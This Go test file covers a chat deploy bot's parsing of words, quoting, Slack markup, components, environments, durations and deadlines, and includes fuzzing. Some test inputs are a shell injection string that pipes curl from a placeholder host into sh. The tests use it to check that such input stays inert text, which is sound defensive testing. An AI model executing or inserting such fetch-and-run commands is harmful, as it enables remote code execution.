package chat

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"
)

func TestWords(t *testing.T) {
	cases := map[string][]Word{
		"":                              nil,
		"  payments\t staging\n":        {{Text: "payments"}, {Text: "staging"}},
		"it's payments’s":               {{Text: "it's"}, {Text: "payments’s"}},
		"“feature x” ‘of’ \"a b\"":      {{Text: "feature x", Quoted: true}, {Text: "of", Quoted: true}, {Text: "a b", Quoted: true}},
		"`feature-x`?":                  {{Text: "feature-x", Quoted: true}},
		"\"unclosed word":               {{Text: "\"unclosed"}, {Text: "word"}},
		"payments?":                     {{Text: "payments"}},
		"please deploy feature-x, Pls?": {{Text: "deploy"}, {Text: "feature-x"}},
		"<#C02PAYMENTS|payments>?":      {{Text: "payments"}},
		"<#C02PAYMENTS>":                {{Text: "<#C02PAYMENTS>"}},
		"<@U01ALICE|alice>":             {{Text: "<@U01ALICE>"}},
		"<!channel>":                    {{Text: "<!channel>"}},
		"&lt;!channel&gt; a&amp;b":      {{Text: "<!channel>"}, {Text: "a&b"}},
		"<https://github.com/acme/payments/pull/482|#482>":   {{Text: "https://github.com/acme/payments/pull/482"}},
		"<mailto:payments@feature.io|payments@feature.io> x": {{Text: "payments@feature.io"}, {Text: "x"}},
		"<https://x.example/?a=1&amp;b=2>":                   {{Text: "https://x.example/?a=1&b=2"}},
		"$(curl${IFS}evil|sh)":                               {{Text: "$(curl${IFS}evil|sh)"}},
		"a\u00a0b":                                           {{Text: "a"}, {Text: "b"}},
	}
	for text, want := range cases {
		if diff := cmp.Diff(want, Words(text)); diff != "" {
			t.Errorf("Words(%q): %s", text, diff)
		}
	}
}

func TestQuote(t *testing.T) {
	for _, text := range []string{"feature-x", "for", "a b", `say "hi"`, "it's", `it's "x"`, "<!channel>", "a&amp;b", "“x”", "please?", "$(curl x|sh)"} {
		if diff := cmp.Diff([]Word{{Text: text, Quoted: true}}, Words(Quote(text))); diff != "" {
			t.Errorf("Quote(%q) is %s: %s", text, Quote(text), diff)
		}
	}
}

// names is a company with components payments, web-shop and lock, and kinds preview and staging.
type names struct{}

func (names) IsComponent(w string) bool {
	switch strings.ToLower(w) {
	case "payments", "web-shop", "lock":
		return true
	}
	return false
}

func (names) IsKind(w string) bool {
	return strings.EqualFold(w, "preview") || strings.EqualFold(w, "staging")
}

var (
	berlin = func() *time.Location {
		z, err := time.LoadLocation("Europe/Berlin")
		if err != nil {
			panic(err)
		}
		return z
	}()
	// tuesday is 15:30 in Berlin.
	tuesday = time.Date(2026, 11, 24, 14, 30, 0, 0, time.UTC)
)

func TestParseTarget(t *testing.T) {
	in := func(y int, m time.Month, d, h, min int) time.Time { return time.Date(y, m, d, h, min, 0, 0, berlin) }
	cases := map[string]Target{
		"":                                     {},
		"feature-x":                            {Ref: "feature-x"},
		"feature-x of payments to preview":     {Ref: "feature-x", Component: "payments", Kind: "preview"},
		"to staging of Payments feature-x":     {Ref: "feature-x", Component: "Payments", Kind: "staging"},
		"payments staging feature-x":           {Ref: "feature-x", Component: "payments", Kind: "staging"},
		"feature-x STAGING web-shop":           {Ref: "feature-x", Component: "web-shop", Kind: "staging"},
		"payments@feature-x":                   {Ref: "feature-x", Component: "payments"},
		"payments@fix/a@b staging":             {Ref: "fix/a@b", Component: "payments", Kind: "staging"},
		"user@feature-x of payments":           {Ref: "user@feature-x", Component: "payments"},
		"payments@#482":                        {PullRequest: 482, Component: "payments"},
		"#482 on staging":                      {PullRequest: 482, Kind: "staging"},
		"payments":                             {Component: "payments"},
		"staging":                              {Kind: "staging"},
		"payments payments":                    {Component: "payments", Ref: "payments"},
		"staging of payments to preview":       {Component: "payments", Kind: "preview", Ref: "staging"},
		"“staging” of payments":                {Component: "payments", Ref: "staging"},
		"component:lock main":                  {Component: "lock", Ref: "main"},
		"main of component:lock":               {Component: "lock", Ref: "main"},
		"feature-x paymets":                    {Ref: "feature-x", Component: "paymets"},
		"feature-x of paymets to stagin":       {Ref: "feature-x", Component: "paymets", Kind: "stagin"},
		"feature-x for 48h":                    {Ref: "feature-x", For: 48 * time.Hour},
		"for 2 days feature-x":                 {Ref: "feature-x", For: 48 * time.Hour},
		"feature-x for 1.5h please?":           {Ref: "feature-x", For: 90 * time.Minute},
		"feature-x for 1w 2d":                  {Ref: "feature-x", For: 9 * 24 * time.Hour},
		"feature-x for 2h30m of payments":      {Ref: "feature-x", For: 150 * time.Minute, Component: "payments"},
		"feature-x until 18:00":                {Ref: "feature-x", Until: in(2026, 11, 24, 18, 0)},
		"feature-x until 9:00":                 {Ref: "feature-x", Until: in(2026, 11, 25, 9, 0)},
		"feature-x until 6pm":                  {Ref: "feature-x", Until: in(2026, 11, 24, 18, 0)},
		"feature-x until tomorrow 9:00":        {Ref: "feature-x", Until: in(2026, 11, 25, 9, 0)},
		"feature-x until tomorrow at 9 am":     {Ref: "feature-x", Until: in(2026, 11, 25, 9, 0)},
		"feature-x until tomorrow":             {Ref: "feature-x", Until: in(2026, 11, 26, 0, 0)},
		"feature-x until tue 10:00":            {Ref: "feature-x", Until: in(2026, 12, 1, 10, 0)},
		"feature-x till Friday":                {Ref: "feature-x", Until: in(2026, 11, 28, 0, 0)},
		"feature-x until 2026-11-30 12:00":     {Ref: "feature-x", Until: in(2026, 11, 30, 12, 0)},
		"feature-x until 2026-11-30":           {Ref: "feature-x", Until: in(2026, 12, 1, 0, 0)},
		"feature-x because it's for the QA":    {Ref: "feature-x", Because: "it's for the QA"},
		"<!channel> of payments":               {Ref: "<!channel>", Component: "payments"},
		"$(curl${IFS}x|sh) payments":           {Ref: "$(curl${IFS}x|sh)", Component: "payments"},
		"feature-x of <#C02PAYMENTS|payments>": {Ref: "feature-x", Component: "payments"},
		"<https://github.com/acme/payments/pull/482/files|PR> to staging": {Repository: "acme/payments", PullRequest: 482, Kind: "staging"},
	}
	for text, want := range cases {
		got, err := ParseTarget(text, names{}, tuesday, berlin)
		if err != nil {
			t.Errorf("ParseTarget(%q): %v", text, err)
			continue
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("ParseTarget(%q): %s", text, diff)
		}
	}
}

func TestParseTargetRefusesInWords(t *testing.T) {
	cases := map[string]string{
		"feature-x for ever":               "I do not know how long \"for ever\" is. Say it like `for 48h`, `for 2d` or `for 90m`.",
		"feature-x for":                    "I do not know how long \"for\" is. Say it like `for 48h`, `for 2d` or `for 90m`.",
		"feature-x for 0h":                 "I do not know how long \"for 0h\" is. Say it like `for 48h`, `for 2d` or `for 90m`.",
		"feature-x for -3h":                "I do not know how long \"for -3h\" is. Say it like `for 48h`, `for 2d` or `for 90m`.",
		"feature-x of":                     "Of which component? Say its name after `of`, as in `feature-x of payments`.",
		"feature-x to":                     "To which kind of environment? Say it after `to`, as in `feature-x to staging`.",
		"a b " + strings.Repeat("c", 4000): "I do not understand \"" + strings.Repeat("c", 59) + "…\" here. The words are REF of COMPONENT to KIND, as in `feature-x of payments to preview`.",
		"feature-x until noonish":          "I do not know when \"until noonish\" is. Say it like `until 18:00`, `until tomorrow 9:00` or `until 2026-11-30 12:00`.",
		"feature-x until 2026-11-23 12:00": "Mon 23 Nov 12:00 has passed.",
		"feature-x because":                "Because of what? Say the reason after `because`.",
		"x of payments of web-shop":        `Which component is it: "payments" or "web-shop"?`,
		"#1 #2":                            `Which one is it: #1 or #2?`,
		"#0":                               "There is no pull request #0.",
		"a b c":                            "I do not understand \"c\" here. The words are REF of COMPONENT to KIND, as in `feature-x of payments to preview`.",
	}
	for text, want := range cases {
		_, err := ParseTarget(text, names{}, tuesday, berlin)
		require.EqualError(t, err, want, text)
		var said *UserError
		require.ErrorAs(t, err, &said)
	}
}

func TestTooLongATimeIsLeftToThePolicy(t *testing.T) {
	for _, text := range []string{"x for 900d", "x for 99999w", "x for 999999w999999w", "x for 999999 weeks"} {
		got, err := ParseTarget(text, names{}, tuesday, berlin)
		require.NoError(t, err, text)
		require.Equal(t, maxDuration+1, got.For, text)
	}
	_, ok := ParseDuration("900d")
	require.False(t, ok)
}

func TestUntilAcrossAClockChange(t *testing.T) {
	evening := time.Date(2027, 3, 27, 20, 0, 0, 0, berlin)
	got, err := ParseTarget("x until tomorrow 2:30", names{}, evening, berlin)
	require.NoError(t, err)
	require.Equal(t, "2027-03-28T01:30:00Z", got.Until.UTC().Format(time.RFC3339), "2:30 does not exist that night: 3:30 is meant")
}

func FuzzParseTarget(f *testing.F) {
	for _, seed := range []string{"feature-x of payments to preview for 48h", "payments@#482 until tomorrow 9:00 because “it's” late", "<#C1|x> <@U1> <mailto:a@b|a@b>",
		"for 2h30m", "#482", "<https://github.com/a/b/pull/1|x>", "‘", "for 1.5h 3", "until 12am", "because"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, w := range Words(text) {
			if w.Text == "" {
				t.Fatalf("an empty word in %q", text)
			}
		}
		got, err := ParseTarget(text, names{}, tuesday, berlin)
		if err != nil {
			return
		}
		if got.For < 0 || got.For > maxDuration || !got.Until.IsZero() && !got.Until.After(tuesday) || got.Ref != "" && got.PullRequest != 0 {
			t.Fatalf("%q: %+v", text, got)
		}
		if utf8.ValidString(text) && !utf8.ValidString(got.Ref+got.Component+got.Because) {
			t.Fatalf("%q broke a character: %+v", text, got)
		}
	})
}
